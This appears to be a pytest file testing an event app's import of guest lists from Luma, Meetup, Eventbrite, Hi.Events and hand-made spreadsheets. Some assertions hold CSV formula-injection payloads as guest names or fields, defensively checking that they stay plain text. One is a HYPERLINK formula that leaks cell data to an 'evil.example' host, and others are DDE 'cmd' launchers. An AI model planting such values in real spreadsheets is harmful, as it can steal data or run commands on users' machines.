"""Each platform's export, end to end: a realistic file in, the guests we expect out."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

from app.domain.enums import NameOrder, RsvpResponse, RsvpSource
from app.services.guestlists import GuestListPreview, GuestRow

Sample = Callable[[str], GuestListPreview]
R = RsvpResponse


def by_line(preview: GuestListPreview) -> dict[int, GuestRow]:
    return {row.line: row for row in preview.parsed.rows}


def rejected(preview: GuestListPreview) -> dict[int, str]:
    return {r.line: r.reason for r in preview.parsed.rejected}


def test_luma_old_export(sample: Sample) -> None:
    preview = sample("luma_old_api_id.csv")
    rows = by_line(preview)
    assert preview.table.encoding == "UTF-8"
    assert sorted(rows) == [2, 3, 4, 5, 6, 7, 8, 12]
    juergen = rows[2]
    assert (juergen.given_name, juergen.family_name, juergen.full_name) == (
        "Jürgen", "Groß", "Jürgen Groß"
    )
    assert juergen.platform is RsvpSource.LUMA
    assert juergen.platform_user_id == "gst-Jq3v8ZbN1c"
    assert juergen.came
    assert juergen.checked_in_at == datetime(2026, 10, 1, 17, 58, 3, 120000, tzinfo=UTC)
    assert juergen.registered_at == datetime(2026, 9, 2, 8, 15, 22, tzinfo=UTC)
    assert juergen.ticket_type == "Standard"
    assert (rows[3].full_name, rows[3].name_order) == ("张伟", NameOrder.FAMILY_FIRST)
    assert [rows[n].response for n in (5, 6, 7)] == [R.DECLINED, R.WAITLISTED, R.INVITED]
    assert rows[7].family_name == "de la Cruz Hernández"
    # The hostile name is kept as the plain text it is.
    assert rows[8].full_name == '=HYPERLINK("https://evil.example/?q="&A1,"Claim your prize")'
    # Line 9 repeats Σοφία (same e-mail, other case): merged, the later "approved" wins.
    assert rows[4].response is R.GOING
    assert rows[4].registered_at == datetime(2026, 9, 4, 10, tzinfo=UTC)
    assert any(note.lines == (4, 9) for note in preview.parsed.notes)
    assert rejected(preview) == {
        10: "“oleg(at)example.ru” is not a valid e-mail address",
        11: "it has no name",
    }
    # An unreadable check-in time still means the guest came; the time is dropped with a note.
    assert rows[12].came
    assert rows[12].checked_in_at is None
    assert any(note.lines == (12,) for note in preview.parsed.notes)


def test_luma_new_export_with_custom_questions_and_multiline_answers(sample: Sample) -> None:
    preview = sample("luma_new_guest_id.csv")
    rows = by_line(preview)
    assert preview.guess.variant == "new"
    assert rows[2].platform_user_id == "gst-Ha1Ko2Sa3T"
    hanako = rows[2]
    assert (hanako.given_name, hanako.family_name, hanako.full_name) == ("花子", "佐藤", "佐藤花子")
    assert rows[2].dietary == "ベジタリアン"  # "None" in the allergies column is not a need
    assert rows[3].dietary == "peanuts"
    assert rows[6].dietary == "halal"
    assert rows[6].accessibility == "wheelchair access"
    assert rows[9].full_name == "محمد العلي"
    assert rows[11].response is R.INVITED
    # Lines 3-4 and 6-8 are records with quoted newlines: later lines are still counted right.
    assert rejected(preview) == {
        5: "“dana@@example.il” is not a valid e-mail address",
        10: "“ana at example.br” is not a valid e-mail address",
        12: "the status “superseded” is not one we know",
    }


def test_meetup_rsvps(sample: Sample) -> None:
    preview = sample("meetup_rsvps.csv")
    rows = by_line(preview)
    assert all(row.email == "" for row in rows.values())  # Meetup shares no e-mails
    ngozi = rows[2]
    assert (ngozi.platform_user_id, ngozi.response, ngozi.guests) == ("123456789", R.GOING, 2)
    assert ngozi.registered_at == datetime(2026, 10, 1, 19, 15, tzinfo=UTC)
    assert ngozi.profile_url == "https://www.meetup.com/members/123456789/"
    assert rows[3].response is R.DECLINED
    assert rows[4].response is R.WAITLISTED
    assert rows[5].full_name == "+cmd|' /C calc'!A0"
    assert rows[9].given_name == "Madonna"
    assert rows[9].registered_at is None
    assert rows[10].platform_user_id == "890123456"  # taken from the profile URL
    assert rejected(preview) == {
        6: "the guests count “-1” is not a whole number from 0 to 999",
        7: "the guests count “two” is not a whole number from 0 to 999",
    }
    assert 8 not in rows  # same User ID as line 2: merged into it
    assert {note.lines for note in preview.parsed.notes} == {(2, 8), (9,)}


def test_meetup_rsvps_with_attendance(sample: Sample) -> None:
    preview = sample("meetup_rsvps_attendance.csv")
    rows = by_line(preview)
    assert rows[2].came
    assert not rows[3].came
    assert rows[3].notes == "Said she'd be late,\nthen didn't show"
    assert not rows[5].came
    assert (rows[6].response, rows[6].came) == (R.DECLINED, True)  # said no, came anyway
    assert rejected(preview) == {7: "it has no name"}


def test_meetup_tab_separated_xls(sample: Sample) -> None:
    preview = sample("meetup_rsvps_tab.xls")
    assert preview.table.delimiter == "\t"
    assert [(r.full_name, r.response, r.guests) for r in preview.parsed.rows] == [
        ("Lars Øberg", R.GOING, 0), ("Åsa Lindqvist", R.GOING, 3), ("Mikko Virtanen", R.DECLINED, 0)
    ]


def _eventbrite_us_checks(preview: GuestListPreview) -> None:
    rows = by_line(preview)
    assert sorted(rows) == [2, 4, 5, 6, 7, 8, 9]  # the address on line 2 spans two lines
    zoe = rows[2]
    assert (zoe.response, zoe.came, zoe.guests) == (R.GOING, False, 0)  # Quantity 2 ≠ guests
    assert zoe.dietary == "Vegan; Tree nuts"
    assert zoe.organization == "Craic, Ltd."
    assert zoe.platform_user_id == "2233445501"
    assert zoe.phone == "(217) 555-0101"
    assert zoe.registered_at == datetime(2026, 9, 15, 15, 23, 45, tzinfo=UTC)
    hubert = rows[4]
    assert (hubert.response, hubert.came) == (R.GOING, True)
    assert hubert.dietary == ""  # "None" and "n/a"
    assert hubert.accessibility == "Wheelchair user"
    assert [rows[n].response for n in (5, 6, 7)] == [R.DECLINED] * 3
    assert rows[8].organization == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[8].job_title == "-2+3"
    assert rows[9].registered_at is None
    assert preview.parsed.rejected == ()


def test_eventbrite_us_utf8_with_bom(sample: Sample) -> None:
    preview = sample("eventbrite_us_bom.csv")
    assert preview.table.encoding == "UTF-8 with BOM"
    assert preview.table.header[0] == "Order #"
    _eventbrite_us_checks(preview)


def test_eventbrite_us_as_excel_unicode_text(sample: Sample) -> None:
    preview = sample("eventbrite_us_unicode.txt")
    assert (preview.table.encoding, preview.table.delimiter) == ("UTF-16 LE", "\t")
    _eventbrite_us_checks(preview)
    assert preview.parsed == sample("eventbrite_us_bom.csv").parsed


def test_eventbrite_uk_cp1252_with_semicolons(sample: Sample) -> None:
    preview = sample("eventbrite_uk_cp1252_semicolon.csv")
    assert (preview.table.encoding, preview.table.delimiter) == ("Windows-1252", ";")
    rows = by_line(preview)
    assert (rows[2].given_name, rows[2].family_name) == ("Siobhán", "Ní Bhriain")
    assert rows[2].registered_at == datetime(2026, 9, 1, 10, 23, tzinfo=UTC)  # day first
    assert rows[2].dietary == "Végétarien"
    assert rows[2].organization == "Café Crème Ltd"
    assert rows[2].phone == "07700 900123"
    assert (rows[3].family_name, rows[3].came) == ("Groß", True)
    assert rows[5].given_name == "=cmd|' /C calc'!A0"
    assert rows[5].dietary == "€5 extra for wine"
    assert rejected(preview) == {4: "“francois@example” is not a valid e-mail address"}


def test_hievents(sample: Sample) -> None:
    rows = by_line(sample("hievents_attendees.csv"))
    assert rows[2].platform is RsvpSource.HIEVENTS
    assert (rows[2].platform_user_id, rows[2].came) == ("1001", True)
    assert rows[2].checked_in_at == datetime(2026, 10, 1, 18, 5, tzinfo=UTC)
    assert rows[2].ticket_type == "General Admission"
    assert (rows[3].came, rows[3].notes) == (False, "Needs an invoice")
    assert rows[4].response is R.DECLINED
    assert rows[5].response is R.PENDING_APPROVAL
    assert rows[6].notes == "-2+3"
    assert (rows[7].came, rows[7].checked_in_at) == (True, None)


def test_handmade_german_list(sample: Sample) -> None:
    preview = sample("handmade_de_semicolon.csv")
    rows = by_line(preview)
    assert (preview.table.header_line, preview.table.delimiter) == (2, ";")
    assert rows[3].organization == "Müller & Söhne GmbH"
    assert (rows[3].response, rows[3].guests, rows[3].dietary) == (R.GOING, 1, "vegetarisch")
    assert (rows[4].response, rows[4].dietary) == (R.MAYBE, "")
    assert rows[4].notes == "Kommt später,\nnach 20 Uhr"
    assert rows[6].response is R.DECLINED
    assert rows[8].response is R.WAITLISTED
    assert (rows[9].given_name, rows[9].organization) == ("=1+1", "+49 30 1234567")
    assert rows[11].response is R.INVITED  # blank answer: not answered yet
    assert 7 not in rows  # a row of bare semicolons is a blank line: skipped silently
    assert rejected(preview) == {10: "“anna.schmidt@example” is not a valid e-mail address"}
    assert "above the header" in preview.parsed.notes[0].message


def test_handmade_chinese_list(sample: Sample) -> None:
    preview = sample("handmade_zh.csv")
    rows = by_line(preview)
    zhang = rows[2]
    assert (zhang.family_name, zhang.given_name, zhang.full_name) == ("张", "伟", "张伟")
    assert (zhang.name_order, zhang.response, zhang.guests) == (NameOrder.FAMILY_FIRST, R.GOING, 1)
    assert zhang.dietary == "不吃辣"
    assert (rows[3].full_name, rows[3].response, rows[3].dietary) == ("佐藤花子", R.MAYBE, "")
    assert (rows[4].full_name, rows[4].response) == ("김민준", R.DECLINED)
    # Chinese names in Latin letters can't be told from western ones: a given-first hint.
    assert (rows[5].full_name, rows[5].name_order) == ("Wei Zhang", NameOrder.GIVEN_FIRST)
    assert rejected(preview) == {
        6: "“wang.fang@example” is not a valid e-mail address",
        7: "the guests count “三” is not a whole number from 0 to 999",
    }


def test_handmade_chinese_list_with_whole_names(sample: Sample) -> None:
    rows = by_line(sample("handmade_zh_fullname.csv"))
    assert [(r.family_name, r.given_name) for r in rows.values()] == [
        ("张", "伟"), ("欧阳", "娜娜"), ("诸葛", "亮"), ("佐藤", "花子"), ("김", "민준"),
        ("Zhang", "Wei"),
    ]
    assert rows[2].name_order is NameOrder.FAMILY_FIRST
